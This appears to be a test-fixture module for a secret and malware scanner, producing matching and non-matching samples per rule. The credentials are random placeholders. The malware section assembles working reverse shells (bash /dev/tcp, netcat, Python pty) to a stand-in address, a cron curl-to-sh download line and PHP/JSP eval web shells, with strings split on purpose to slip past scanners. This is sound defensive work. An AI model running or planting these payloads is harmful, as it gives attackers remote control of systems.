"""True and false examples of each rule for content. All is put together when it is asked for, so that neither
this clone nor its history holds what scanners look for."""

from __future__ import annotations

import base64
import json
import random
import string
import zlib
from dataclasses import dataclass

from sandbox.scanners.content.checks import base62

HEX = "0123456789abcdef"
LETTERS = string.ascii_letters
BASE62 = string.ascii_letters + string.digits
BASE64 = BASE62 + "+/"
UPPER = string.ascii_uppercase + string.digits


@dataclass(frozen=True, slots=True)
class Planted:
    """Texts in which a rule finds something, and such in which it does not. ``path`` is where they lie."""

    true: tuple[str, ...]
    false: tuple[str, ...]
    path: str = "srv/app/settings.txt"


def made(alphabet: str, length: int, seed: int = 1) -> str:
    """Random, and the same each time."""
    return "".join(random.Random(seed).choices(alphabet, k=length))


def token(prefix: str, *, seed: int = 1, good: bool = True) -> str:
    """GitHub's and npm's kind: thirty characters and their checksum."""
    body = made(BASE62, 30, seed)
    return prefix + body + base62(zlib.crc32(body.encode()) ^ (not good)).decode()


def private_key(kind: str = "RSA ", *, newline: str = "\n") -> str:
    body = made(BASE64, 1500)
    lines = [body[at : at + 64] for at in range(0, len(body), 64)]
    dashes = "-" * 5
    whole = [f"{dashes}BEGIN {kind}PRIVATE KEY{dashes}", *lines, f"{dashes}END {kind}PRIVATE KEY{dashes}", ""]
    return newline.join(whole)


def jwt(header: object, claims: object, signature_bytes: int) -> str:
    def packed(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

    texts = [packed(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims)]
    return ".".join([*texts, packed(random.Random(5).randbytes(signature_bytes))])


def eicar() -> str:
    return "X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!" + "$H+H*"


def bash_shell() -> str:
    return "bash -i >& /dev/" + "tcp/198.51.100.7/4242 0>&1"


def basic(user: str, password: str) -> str:
    return base64.b64encode(f"{user}:{password}".encode()).decode()


def secrets() -> dict[str, Planted]:
    """By the id of the rule."""
    lower = string.ascii_lowercase + string.digits
    url = "://ledger:" + "q7Tz9kLw2mPf" + "@db.internal:5432/ledger"
    claims = {"iss": "https://id.ledger.internal", "sub": "4711", "scope": "write"}
    pgp = private_key("PGP ").replace("PRIVATE KEY", "PRIVATE KEY" + " BLOCK")
    pypi = base64.urlsafe_b64encode(b"\x02\x01\x08pypi.org\x02$" + random.Random(3).randbytes(90))
    return {
        "ST-SECRET-PRIVATE-KEY": Planted(
            (private_key(), private_key("OPENSSH "), private_key(""), private_key("EC ", newline="\\n")),
            (
                private_key()[:60],
                private_key().replace("PRIVATE", "PUBLIC"),
                "-----BEGIN " + "PRIVATE KEY-----\n" + "A" * 400,
            ),
        ),
        "ST-SECRET-PGP-PRIVATE-KEY": Planted((pgp,), (pgp.replace("PRIVATE", "PUBLIC"),)),
        "ST-SECRET-AGE-KEY": Planted(
            ("AGE-SECRET-" + "KEY-1" + made("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58),),
            ("AGE-SECRET-" + "KEY-1" + "Q" * 58,),
        ),
        "ST-SECRET-KUBECONFIG-KEY": Planted(
            ("client-key-data: " + base64.b64encode(private_key().encode()).decode(),),
            ("client-key-data: " + "LS0tLS1CRUdJTi" + "A" * 20,),
        ),
        "ST-SECRET-AWS-ACCESS-KEY-ID": Planted(
            ("aws_access_key_id=" + "AK" + "IA" + made(UPPER, 16), "AS" + "IA" + made(UPPER, 16, 2)),
            ("AKIAIOSFODNN7" + "EXAMPLE", "AK" + "IA" + made(UPPER, 19), "AK" + "IA" + "A" * 16),
        ),
        "ST-SECRET-AWS-SECRET-ACCESS-KEY": Planted(
            (
                "aws_secret_access_key = " + made(BASE64, 40),
                '"secretAccessKey": "' + made(BASE64, 40, 2) + '"',
            ),
            (
                "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY",
                "aws_secret_access_key=${AWS_SECRET}",
            ),
        ),
        "ST-SECRET-GITHUB-TOKEN": Planted(
            tuple(token(f"gh{kind}_", seed=at) for at, kind in enumerate("pousr")),
            ("ghp_" + "x" * 36, "ghp_" + made(BASE62, 30), "ghp_" + "0123456789" * 3 + "abcdef"),
        ),
        "ST-SECRET-GITHUB-FINE-GRAINED-TOKEN": Planted(
            ("github_" + "pat_" + made(BASE62, 22) + "_" + made(BASE62, 59),),
            ("github_" + "pat_" + "1" * 22 + "_" + "2" * 59,),
        ),
        "ST-SECRET-GITLAB-TOKEN": Planted(
            ("gl" + "pat-" + made(BASE62, 20), "gl" + "cbt-64_" + made(BASE62, 20)),
            ("gl" + "pat-your_" + "token_goes_here_now",),
        ),
        "ST-SECRET-NPM-TOKEN": Planted(
            (token("npm_"),), ("npm_config_registry_of_all_the_things_we_do", "npm_" + "x" * 36)
        ),
        "ST-SECRET-NPMRC-AUTH": Planted(
            ("//npm.internal/:_auth" + "Token=" + made(BASE62, 30), "_auth=" + basic("ci", "k3vQ9sTz")),
            ("//npm.internal/:_auth" + "Token=${NPM_TOKEN}", "_auth=" + "xxxxxxxxxxxx"),
            path="srv/app/.npmrc",
        ),
        "ST-SECRET-PYPI-TOKEN": Planted(
            ("pypi-" + pypi.decode(),), ("pypi-AgE" + "xxxx" * 20, "pypi-AgE" + made(BASE62, 80))
        ),
        "ST-SECRET-PYPIRC-PASSWORD": Planted(
            ("[pypi]\nusername: ci\npassword" + ": tr0ub4dor",),
            ("[pypi]\npassword" + " = <your password>",),
            path="root/.pypirc",
        ),
        "ST-SECRET-NETRC-PASSWORD": Planted(
            ("machine git.internal login ci password" + " tr0ub4dor",),
            ("machine x login ci password" + " ${PASSWORD}",),
            path="root/.netrc",
        ),
        "ST-SECRET-DOCKER-AUTH": Planted(
            ('{"auths": {"r.internal": {"auth": "' + basic("ci", "k3vQ9sTz") + '"}}}',),
            ('{"auth": "' + basic("user", "password") + '"}', '{"auth": "requiredForAll"}'),
            path="root/.docker/config.json",
        ),
        "ST-SECRET-DOCKER-HUB-TOKEN": Planted(
            ("dckr_" + "pat_" + made(BASE62, 27),), ("dckr_" + "pat_" + "a" * 27,)
        ),
        "ST-SECRET-RUBYGEMS-TOKEN": Planted(
            ("ruby" + "gems_" + made(HEX, 48),), ("ruby" + "gems_" + "0" * 48,)
        ),
        "ST-SECRET-CRATES-TOKEN": Planted(
            ('token = "c' + "io" + made(BASE62, 32) + '"',),
            ('x = "c' + "io" + "n" * 32 + '"',),
            path="root/.cargo/credentials.toml",
        ),
        "ST-SECRET-NUGET-TOKEN": Planted(("oy" + "2" + made(lower, 43),), ("oy" + "2" + "a" * 43,)),
        "ST-SECRET-SLACK-TOKEN": Planted(
            (
                "xo" + "xb-123456789012-" + made(BASE62, 24),
                "xa" + "pp-1-A0123BCDEFG-1234567890123-" + made(HEX, 64),
            ),
            ("xo" + "xb-your-token-here",),
        ),
        "ST-SECRET-SLACK-WEBHOOK": Planted(
            ("https://hooks.slack.com/services/" + "T01AB2CD3" + "/B04EF5GH6/" + made(BASE62, 24),),
            ("https://hooks.slack.com/services/" + "T00000000" + "/B00000000/" + "X" * 24,),
        ),
        "ST-SECRET-STRIPE-KEY": Planted(
            ("sk_" + "live_" + made(BASE62, 24),),
            ("sk_" + "test_" + made(BASE62, 24), "sk_" + "live_" + "x" * 24),
        ),
        "ST-SECRET-GOOGLE-API-KEY": Planted(("AI" + "za" + made(BASE62, 35),), ("AI" + "za" + "S" * 35,)),
        "ST-SECRET-GOOGLE-OAUTH-SECRET": Planted(
            ("GOC" + "SPX-" + made(BASE62, 28),), ("GOC" + "SPX-" + "your-secret-here-" + "y" * 11,)
        ),
        "ST-SECRET-AZURE-STORAGE-KEY": Planted(
            ("DefaultEndpointsProtocol=https;Account" + "Key=" + made(BASE64, 86) + "==",),
            ("Account" + "Key=" + "A" * 86 + "==",),
        ),
        "ST-SECRET-AZURE-CLIENT-SECRET": Planted(
            ("client_id=1\nvalue=" + made(BASE62, 3) + "8Q~" + made(BASE62, 33),),
            ("value=abc8Q~" + "a" * 33,),
            path="srv/app/azure.env",
        ),
        "ST-SECRET-SENDGRID-KEY": Planted(
            ("SG" + "." + made(BASE62, 22) + "." + made(BASE62, 43),),
            ("SG" + "." + "a" * 22 + "." + "b" * 43,),
        ),
        "ST-SECRET-TWILIO-KEY": Planted(
            ("TWILIO_AUTH_TOKEN" + "=" + made(HEX, 32),), ("TWILIO_AUTH_TOKEN" + "=" + "0" * 32,)
        ),
        "ST-SECRET-MAILGUN-KEY": Planted(
            ("MAILGUN_API_KEY" + "=key-" + made(HEX, 32),),
            ("MAILGUN_API_KEY" + "=key-" + "0123456789" + "ab" * 11,),
        ),
        "ST-SECRET-OPENAI-KEY": Planted(
            ("sk-" + "proj-" + made(BASE62, 40) + "T3Blbk" + "FJ" + made(BASE62, 40, 2),),
            ("sk-" + "proj-" + "x" * 40 + "T3Blbk" + "FJ" + "x" * 40,),
        ),
        "ST-SECRET-ANTHROPIC-KEY": Planted(
            ("sk-" + "ant-api03-" + made(BASE62, 95),), ("sk-" + "ant-api03-" + "x" * 95,)
        ),
        "ST-SECRET-HUGGINGFACE-TOKEN": Planted(
            ("h" + "f_" + made(LETTERS, 34),), ("h" + "f_" + "x" * 34, "h" + "f_" + made(LETTERS, 36))
        ),
        "ST-SECRET-DIGITALOCEAN-TOKEN": Planted(
            ("do" + "p_v1_" + made(HEX, 64),), ("do" + "p_v1_" + "0" * 64,)
        ),
        "ST-SECRET-VAULT-TOKEN": Planted(
            ("hv" + "s." + made(BASE62, 40),), ("hv" + "s.an_ordinary_name_of_code",)
        ),
        "ST-SECRET-TERRAFORM-TOKEN": Planted(
            (made(BASE62, 14) + ".atlas" + "v1." + made(BASE62, 67),),
            ("a" * 14 + ".atlas" + "v1." + "b" * 67,),
        ),
        "ST-SECRET-GRAFANA-TOKEN": Planted(
            ("gl" + "sa_" + made(BASE62, 32) + "_" + made(HEX, 8),),
            ("gl" + "sa_" + "a" * 32 + "_" + "00000000",),
        ),
        "ST-SECRET-SHOPIFY-TOKEN": Planted(("shp" + "at_" + made(HEX, 32),), ("shp" + "at_" + "0" * 32,)),
        "ST-SECRET-DATABRICKS-TOKEN": Planted(("da" + "pi" + made(HEX, 32),), ("da" + "pi" + "0" * 32,)),
        "ST-SECRET-TELEGRAM-TOKEN": Planted(
            (
                "https://api.telegram.org/" + "bot110201543:AA" + made(BASE62, 33),
                "TELEGRAM_TOKEN=" + "110201543:AA" + made(BASE62, 33),
            ),
            ("TELEGRAM_TOKEN=" + "110201543:AA" + "x" * 33,),
        ),
        "ST-SECRET-JWT": Planted(
            (jwt({"alg": "HS256", "typ": "JWT"}, claims, 32), jwt({"alg": "RS256"}, claims, 256)),
            (
                jwt(
                    {"alg": "HS256", "typ": "JWT"},
                    {"sub": "1234567890", "name": "John Doe", "iat": 1516239022},
                    32,
                ),
                jwt({"alg": "HS256"}, claims, 40),
                jwt({"alg": "RS256"}, claims, 60),
                jwt({"typ": "JWT", "no": 1}, claims, 32),
            ),
        ),
        "ST-SECRET-DATABASE-URL": Planted(
            (
                "postgres" + url,
                "mysql+pymysql" + url,
                "redis://" + ":" + "q7Tz9kLw2mPf" + "@cache:6379/0",
                "postgres://" + "u:p" + "@h/db",
            ),
            (
                "postgres://" + "user:password" + "@localhost/db",
                "postgresql://" + "scott:tiger" + "@localhost/test",
                "mysql://" + "app:${PASSWORD}" + "@db/app",
                "postgres://" + "app:s3cr3tValue" + "@db.example.com",
            ),
        ),
        "ST-SECRET-URL-PASSWORD": Planted(
            ("https" + url,),
            (
                "http://" + "username:password" + "@proxy.example.com:8080",
                "https://" + "user:{password}1" + "@host",
            ),
        ),
        "ST-SECRET-AUTHORIZATION-HEADER": Planted(
            ("Authorization" + ": Bearer " + made(BASE62, 40),),
            ("Authorization" + ": Bearer ${TOKEN_OF_THE_SERVICE}",),
            path="srv/app/call.sh",
        ),
        "ST-SECRET-ASSIGNED": Planted(
            ("DJANGO_SECRET_KEY" + "=" + made(BASE62, 50), 'password: "' + made(BASE62, 24, 4) + '"'),
            (
                "DB_PASSWORD" + "=${PASSWORD}",
                "API_KEY" + "=change-me-before-you-start-it",
                "PASSWORD" + "_FILE=/run/secrets/password-of-db",
                "password" + ": correcthorsebatterystaple",
            ),
            path="srv/app/.env",
        ),
    }


def malware() -> dict[str, Planted]:
    """By the id of the rule."""
    socket = "import socket,os,pty\ns=socket.socket" + "()\ns.connect" + '(("198.51.100.7",4242))\n'
    elf = "\x7fELF"
    return {
        "ST-MALWARE-EICAR": Planted(
            (eicar(), "in the middle " + eicar() + " of it"), (eicar().replace("X5O", "X5P"), eicar()[:-6])
        ),
        "ST-MALWARE-REVERSE-SHELL-BASH": Planted(
            (bash_shell(), "exec 5<>/dev/" + "tcp/198.51.100.7/4242; cat <&5"),
            ("see /dev/tcp/host/port in bash(1)", "bash -i > /dev/null"),
        ),
        "ST-MALWARE-REVERSE-SHELL-NETCAT": Planted(
            (
                "nc 198.51.100.7 4242 -" + "e /bin/sh",
                "mkfifo /tmp/f; cat /tmp/f|" + "/bin/sh -i 2>&1|" + "nc 198.51.100.7 4242 >/tmp/f",
                "mkfifo /tmp/f; cat /tmp/f | " + "sh -i 2>&1 | " + "nc 198.51.100.7 4242",
            ),
            ("nc -z db 5432 && exec /bin/sh", "nc -e is not there in Debian's netcat"),
        ),
        "ST-MALWARE-REVERSE-SHELL-SCRIPT": Planted(
            (socket + "os.dup2" + '(s.fileno(),0)\npty.spawn("/bin/' + 'bash")',),
            (socket, "os.dup2(s.fileno(),0)"),
        ),
        "ST-MALWARE-MINER-POOL": Planted(
            ("url = stratum" + "+tcp://pool.internal:3333",), ("the stratum of the pool is tcp",)
        ),
        "ST-MALWARE-MINER": Planted(
            ("xm" + "rig 6.1 donate" + "-level 1 Random" + "X",), ("xm" + "rig is a name",)
        ),
        "ST-MALWARE-WEB-SHELL-PHP": Planted(
            (
                "<?php @ev" + "al($_PO" + "ST['x']); ?>",
                "<?php sys" + "tem($_GE" + "T[0]);",
                "$_GE" + "T['f']($_GE" + "T['x'])",
            ),
            ("<?php echo htmlspecialchars($_POST['x']);", "<?php eval('return 1;');"),
        ),
        "ST-MALWARE-WEB-SHELL-KNOWN": Planted(
            ("b37" + "4k shell 3.2", "$default_action = '" + "FilesMan';", "<%ev" + 'al request("x")%>'),
            ("the b374k of the register", "FilesManager"),
        ),
        "ST-MALWARE-WEB-SHELL-JSP": Planted(
            ("<%@ page %><% Runtime.getRuntime()" + '.exec(request.getParameter("x")); %>',),
            ("Runtime.getRuntime().exec(command)",),
        ),
        "ST-MALWARE-DOWNLOADED-AND-RUN-BY-CRON": Planted(
            ("*/5 * * * * root curl" + " -s http://198.51.100.7/x | sh\n",),
            ("*/5 * * * * root curl -s http://localhost/health\n",),
        ),
        "ST-MALWARE-BOTNET": Planted(("/bin/busybox" + " MIRAI",), ("/bin/busybox sh",)),
        "ST-MALWARE-ROOTKIT": Planted(
            ("libprocess" + "hider.so", elf + "/etc/ld.so.preload readdir64 HIDE_" + "PREFIX"),
            (elf + "/etc/ld.so.preload",),
        ),
        "ST-MALWARE-CONTAINER-WORM": Planted(("killall kdev" + "tmpfsi; kin" + "sing",), ("kinsing",)),
        "ST-MALWARE-METERPRETER": Planted(("mettle" + "sploit",), ("mettle",)),
        "ST-MALWARE-C2-IMPLANT": Planted(
            ("github.com/bishopfox/" + "sliver/implant/sliver/version",),
            ("github.com/jpillora/" + "chisel/client",),
        ),
        "ST-MALWARE-PACKED-PROGRAM": Planted(
            (elf + "UPX" + "! $Info: This file is packed with the " + "UPX executable packer",),
            ("UPX" + "! is in its manual",),
        ),
    }
